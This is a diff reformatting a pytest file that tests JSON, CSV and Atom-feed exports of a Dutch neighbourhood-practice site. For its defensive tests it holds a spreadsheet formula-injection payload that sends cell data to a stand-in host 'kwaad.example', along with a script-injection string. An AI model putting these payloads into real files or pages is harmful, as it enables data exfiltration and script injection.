@@ -21,7 +21,12 @@ from wwidw_build.selection import select
 REPO = Path(__file__).resolve().parent.parent
 SCHEMA = json.loads((REPO / "schemas" / "export-beschrijvingen.schema.json").read_text("utf-8"))
 ATOM = "{http://www.w3.org/2005/Atom}"
-AUDIENCES = ["openbaar", "partners", "organisatie:havenstad-wonen", "organisatie:gemeente-lindeveen"]
+AUDIENCES = [
+    "openbaar",
+    "partners",
+    "organisatie:havenstad-wonen",
+    "organisatie:gemeente-lindeveen",
+]
 
 
 def export(content, audience: str, site: Path, **options):
@@ -41,21 +46,31 @@ def read_csv(site: Path) -> list[list[str]]:
 
 def with_changed(content, kind: str, doc_id: str, **meta):
     """The content with one description's front matter changed."""
-    documents = tuple(dataclasses.replace(d, meta={**d.meta, **meta}) if (d.kind, d.id) == (kind, doc_id) else d
-                      for d in content.documents)
+    documents = tuple(
+        dataclasses.replace(d, meta={**d.meta, **meta}) if (d.kind, d.id) == (kind, doc_id) else d
+        for d in content.documents
+    )
     return dataclasses.replace(content, documents=documents)
 
 
 def public_praktijk(content, contact_public: bool | None = None):
     for document in content.by_kind("praktijk"):
         contact = document.meta.get("contact")
-        if document.zichtbaarheid == "openbaar" and not document.concept and (
-                contact_public is None or (isinstance(contact, dict) and contact.get("openbaar") is contact_public)):
+        if (
+            document.zichtbaarheid == "openbaar"
+            and not document.concept
+            and (
+                contact_public is None
+                or (isinstance(contact, dict) and contact.get("openbaar") is contact_public)
+            )
+        ):
             return document
     pytest.skip("no suitable public praktijk in the content")
 
 
-# --- JSON -------------------------------------------------------------------------------------------------------
+# --- JSON
+# -------------------------------------------------------------------------------------------------------
+
 
 def test_schema_is_valid_and_fully_described():
     Draft202012Validator.check_schema(SCHEMA)
@@ -73,6 +88,7 @@ def test_schema_is_valid_and_fully_described():
         elif isinstance(node, list):
             for i, value in enumerate(node):
                 walk(value, f"{where}/{i}")
+
     walk(SCHEMA, "#")
 
 
@@ -84,7 +100,9 @@ def test_json_validates_against_schema(content, tmp_path, audience):
     assert [e.message for e in validator.iter_errors(data)] == []
     assert data["publiek"] == audience
     assert data["aantal"] == len(data["beschrijvingen"]) == len(selection.visible)
-    assert {(d["soort"], d["id"]) for d in data["beschrijvingen"]} == {(d.kind, d.id) for d in selection.visible}
+    assert {(d["soort"], d["id"]) for d in data["beschrijvingen"]} == {
+        (d.kind, d.id) for d in selection.visible
+    }
     copied = json.loads((tmp_path / "data" / "beschrijvingen.schema.json").read_text("utf-8"))
     assert copied == SCHEMA
 
@@ -113,19 +131,37 @@ def test_partners_export_includes_partner_descriptions_and_contacts(content, tmp
     items = {(d["soort"], d["id"]): d for d in read_json(tmp_path)["beschrijvingen"]}
     partner_only = [d for d in content.documents if d.zichtbaarheid == "partners" and not d.concept]
     assert partner_only and all((d.kind, d.id) in items for d in partner_only)
-    assert not any(d.zichtbaarheid == "organisatie" and (d.kind, d.id) in items for d in content.documents)
-    private = [d for d in content.documents if (d.kind, d.id) in items and isinstance(d.meta.get("contact"), dict)
-               and d.meta["contact"].get("openbaar") is not True]
+    assert not any(
+        d.zichtbaarheid == "organisatie" and (d.kind, d.id) in items for d in content.documents
+    )
+    private = [
+        d
+        for d in content.documents
+        if (d.kind, d.id) in items
+        and isinstance(d.meta.get("contact"), dict)
+        and d.meta["contact"].get("openbaar") is not True
+    ]
     assert private
     for document in private:
-        assert items[(document.kind, document.id)]["contact"]["naam"] == document.meta["contact"]["naam"]
+        assert (
+            items[(document.kind, document.id)]["contact"]["naam"]
+            == document.meta["contact"]["naam"]
+        )
 
 
 def test_organisation_export_includes_its_own_descriptions(content, tmp_path):
     export(content, "organisatie:havenstad-wonen", tmp_path)
     ids = {d["id"] for d in read_json(tmp_path)["beschrijvingen"]}
-    own = [d for d in content.documents if d.zichtbaarheid == "organisatie" and d.organisatie == "havenstad-wonen"]
-    others = [d for d in content.documents if d.zichtbaarheid == "organisatie" and d.organisatie != "havenstad-wonen"]
+    own = [
+        d
+        for d in content.documents
+        if d.zichtbaarheid == "organisatie" and d.organisatie == "havenstad-wonen"
+    ]
+    others = [
+        d
+        for d in content.documents
+        if d.zichtbaarheid == "organisatie" and d.organisatie != "havenstad-wonen"
+    ]
     assert own and all(d.id in ids for d in own if not d.concept)
     assert not any(d.id in ids for d in others)
 
@@ -136,18 +172,31 @@ def test_hidden_archetype_is_left_out(content, tmp_path):
     changed = with_changed(content, "archetype", hidden.id, zichtbaarheid="partners")
     changed = with_changed(changed, "praktijk", visible_praktijk.id, archetype=hidden.id)
     export(changed, "openbaar", tmp_path / "openbaar")
-    item = next(d for d in read_json(tmp_path / "openbaar")["beschrijvingen"] if d["id"] == visible_praktijk.id)
+    item = next(
+        d
+        for d in read_json(tmp_path / "openbaar")["beschrijvingen"]
+        if d["id"] == visible_praktijk.id
+    )
     assert "archetype" not in item
     export(changed, "partners", tmp_path / "partners")
-    item = next(d for d in read_json(tmp_path / "partners")["beschrijvingen"] if d["id"] == visible_praktijk.id)
-    assert item["archetype"] == {"id": hidden.id, "titel": hidden.titel, "url": f"archetypen/{hidden.id}/"}
+    item = next(
+        d
+        for d in read_json(tmp_path / "partners")["beschrijvingen"]
+        if d["id"] == visible_praktijk.id
+    )
+    assert item["archetype"] == {
+        "id": hidden.id,
+        "titel": hidden.titel,
+        "url": f"archetypen/{hidden.id}/",
+    }
 
 
 @pytest.mark.parametrize("audience", AUDIENCES)
 def test_exports_pass_the_leak_audit(content, tmp_path, audience):
     selection = export(content, audience, tmp_path)
-    prints = audit.fingerprints(selection.hidden, selection.visible, audit.unique_sequences(content.documents),
-                                lambda d: ())
+    prints = audit.fingerprints(
+        selection.hidden, selection.visible, audit.unique_sequences(content.documents), lambda d: ()
+    )
     assert audit.audit_tree(tmp_path, prints) == []
 
 
@@ -161,7 +210,9 @@ def test_exports_never_touch_the_hidden_part(content, tmp_path):
     assert (tmp_path / "feed.xml").is_file()
 
 
-# --- CSV --------------------------------------------------------------------------------------------------------
+# --- CSV
+# --------------------------------------------------------------------------------------------------------
+
 
 def test_csv_is_excel_friendly_and_round_trips(content, tmp_path):
     export(content, "partners", tmp_path)
@@ -175,7 +226,11 @@ def test_csv_is_excel_friendly_and_round_trips(content, tmp_path):
     assert len(rows) == len(items) + 1 and all(len(row) == len(COLUMNS) for row in rows)
     for row, item in zip(rows[1:], items):
         cells = dict(zip(COLUMNS, row))
-        assert (cells["soort"], cells["id"], cells["titel"]) == (item["soort"], item["id"], item["titel"])
+        assert (cells["soort"], cells["id"], cells["titel"]) == (
+            item["soort"],
+            item["id"],
+            item["titel"],
+        )
         assert cells["samenvatting"] == item["samenvatting"]
         assert cells["volledigheid"] == str(item["volledigheid"])
         for column in ("bereik", "startjaar", "kosten_totaal_eur"):
@@ -184,37 +239,57 @@ def test_csv_is_excel_friendly_and_round_trips(content, tmp_path):
             assert cells["themas"] == ", ".join(t["naam"] for t in item["themas"])
 
 
-@pytest.mark.parametrize("title", ['=HYPERLINK("https://kwaad.example/?x="&A1;"klik hier")', "+31 buurten doen mee",
-                                   "-1+1 in de wijk", "@SUM(1+1) buurt", "\tTab voorop in de titel",
-                                   "\rCR voorop in de titel"])
+@pytest.mark.parametrize(
+    "title",
+    [
+        '=HYPERLINK("https://kwaad.example/?x="&A1;"klik hier")',
+        "+31 buurten doen mee",
+        "-1+1 in de wijk",
+        "@SUM(1+1) buurt",
+        "\tTab voorop in de titel",
+        "\rCR voorop in de titel",
+    ],
+)
 def test_csv_neutralises_formulas(content, tmp_path, title):
     target = public_praktijk(content)
     changed = with_changed(content, "praktijk", target.id, titel=title)
     export(changed, "openbaar", tmp_path)
     cells = next(dict(zip(COLUMNS, row)) for row in read_csv(tmp_path)[1:] if row[1] == target.id)
     assert cells["titel"] == "'" + title
-    assert next(d for d in read_json(tmp_path)["beschrijvingen"] if d["id"] == target.id)["titel"] == title
+    assert (
+        next(d for d in read_json(tmp_path)["beschrijvingen"] if d["id"] == target.id)["titel"]
+        == title
+    )
 
 
-# --- Atom feed ------------------------------------------------------------------------------------------------------
+# --- Atom feed
+# ------------------------------------------------------------------------------------------------------
+
 
 @pytest.mark.parametrize("audience", AUDIENCES)
 def test_feed_parses_and_lists_the_newest(content, tmp_path, audience):
     selection = export(content, audience, tmp_path)
     root = ET.parse(tmp_path / "feed.xml").getroot()
     assert root.tag == f"{ATOM}feed"
-    assert root.findtext(f"{ATOM}title") and root.findtext(f"{ATOM}id") and root.findtext(f"{ATOM}updated")
+    assert (
+        root.findtext(f"{ATOM}title")
+        and root.findtext(f"{ATOM}id")
+        and root.findtext(f"{ATOM}updated")
+    )
     entries = root.findall(f"{ATOM}entry")
     assert len(entries) == min(FEED_SIZE, len(selection.visible)) <= FEED_SIZE
     stamps = [e.findtext(f"{ATOM}updated") for e in entries]
     assert stamps == sorted(stamps, reverse=True)
     assert root.findtext(f"{ATOM}updated") == stamps[0]
-    visible = {f"{'praktijken' if d.kind == 'praktijk' else 'archetypen'}/{d.id}/" for d in selection.visible}
+    visible = {
+        f"{'praktijken' if d.kind == 'praktijk' else 'archetypen'}/{d.id}/"
+        for d in selection.visible
+    }
     links = [e.find(f"{ATOM}link").get("href") for e in entries]
     assert set(links) <= visible
     assert len({e.findtext(f"{ATOM}id") for e in entries}) == len(entries)
     dated = sorted((updated_of(d) or "" for d in selection.visible), reverse=True)[:FEED_SIZE]
-    assert [s[:10] for s in stamps if s[:4] != "1970"] == [d for d in dated if d][:len(stamps)]
+    assert [s[:10] for s in stamps if s[:4] != "1970"] == [d for d in dated if d][: len(stamps)]
     for entry in entries:
         assert entry.findtext(f"{ATOM}title") and entry.find(f"{ATOM}summary") is not None
 
@@ -223,18 +298,28 @@ def test_feed_uses_base_url(content, tmp_path):
     export(content, "openbaar", tmp_path, site_url="https://wwidw.example/openbaar/")
     root = ET.parse(tmp_path / "feed.xml").getroot()
     hrefs = [e.find(f"{ATOM}link").get("href") for e in root.findall(f"{ATOM}entry")]
-    assert hrefs and all(h.startswith("https://wwidw.example/openbaar/") and "//" not in h[8:] for h in hrefs)
+    assert hrefs and all(
+        h.startswith("https://wwidw.example/openbaar/") and "//" not in h[8:] for h in hrefs
+    )
 
 
 def test_feed_escapes_markup(content, tmp_path):
     target = public_praktijk(content)
     title = '<script>alert("x")</script> & Buurt'
-    changed = with_changed(content, "praktijk", target.id, titel=title, laatst_bijgewerkt="2099-12-31",
-                           samenvatting="Een <b>vette</b> samenvatting\x07 met een besturingsteken.")
+    changed = with_changed(
+        content,
+        "praktijk",
+        target.id,
+        titel=title,
+        laatst_bijgewerkt="2099-12-31",
+        samenvatting="Een <b>vette</b> samenvatting\x07 met een besturingsteken.",
+    )
     export(changed, "openbaar", tmp_path)
     raw = (tmp_path / "feed.xml").read_text("utf-8")
     assert "<script>" not in raw and "&lt;script&gt;" in raw
     first = ET.parse(tmp_path / "feed.xml").getroot().find(f"{ATOM}entry")
     assert first.findtext(f"{ATOM}title") == title
-    assert first.findtext(f"{ATOM}summary") == "Een <b>vette</b> samenvatting met een besturingsteken."
+    assert (
+        first.findtext(f"{ATOM}summary") == "Een <b>vette</b> samenvatting met een besturingsteken."
+    )
     assert first.find(f"{ATOM}link").get("href") == f"praktijken/{target.id}/"
